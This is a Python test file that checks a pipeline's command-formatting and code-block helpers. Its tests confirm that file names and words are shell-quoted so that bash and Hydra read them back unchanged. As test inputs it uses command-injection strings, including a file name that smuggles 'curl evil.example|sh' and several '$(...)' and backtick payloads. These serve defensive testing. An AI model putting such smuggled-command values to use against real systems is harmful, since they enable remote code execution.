"""Printed commands: a shell reads back exactly the words that were meant, whatever is in them."""

from __future__ import annotations

import shlex
import subprocess

from hydra.core.override_parser.overrides_parser import OverridesParser
from hypothesis import example, given
from hypothesis import strategies as st

from pipeline.config.printed_commands import format_command, quote_words
from pipeline.report.markup import code_block

# What a file name may hold.
TEXTS = st.text(st.characters(blacklist_categories=["Cs"], blacklist_characters="\0"), max_size=20)


@given(path=TEXTS)
@example(path="x`;curl evil.example|sh;`")
@example(path="$(id)")
@example(path="a'; id; '")
@example(path='a"b\\')
def test_what_a_command_names_is_one_word_that_hydra_reads_as_it_was(path):
    *command, override = shlex.split(format_command("sample", {"checkpoint": path}))
    assert command == ["python", "-m", "pipeline.sample"]
    [parsed] = OverridesParser.create().parse_overrides([override])
    # What Hydra takes for another type is no text that was printed.
    assert parsed.key_or_group == "checkpoint" and parsed.value() == path


@given(words=st.lists(TEXTS, min_size=1, max_size=3))
@example(words=["mlflow", "ui`id`", "$HOME", "\n# x"])
def test_another_programs_words_are_what_a_shell_reads(words):
    assert shlex.split(quote_words(*words)) == words
    assert shlex.split(quote_words("x", A=words[0])) == [f"A={words[0]}", "x"]


def test_a_shell_runs_nothing_of_what_a_command_names(tmp_path):
    path = f"`touch {tmp_path}/a`$(touch {tmp_path}/b);touch {tmp_path}/c;'"
    line = format_command("sample", {"checkpoint": path}).replace("python", "printf %s%.0s")
    subprocess.run(["bash", "-c", line], check=True, capture_output=True)
    assert not list(tmp_path.iterdir())


@given(lines=st.lists(TEXTS | st.sampled_from(["```", "````", "a`b", "`x` ``"]), max_size=4))
@example(lines=["```", "````sh"])
def test_no_line_ends_the_block_that_it_is_in(lines):
    first, *_, last = code_block(lines).split("\n")
    fence = first.removesuffix("sh")
    assert set(fence) == {"`"} and last == fence
    assert all(fence not in line for line in lines)
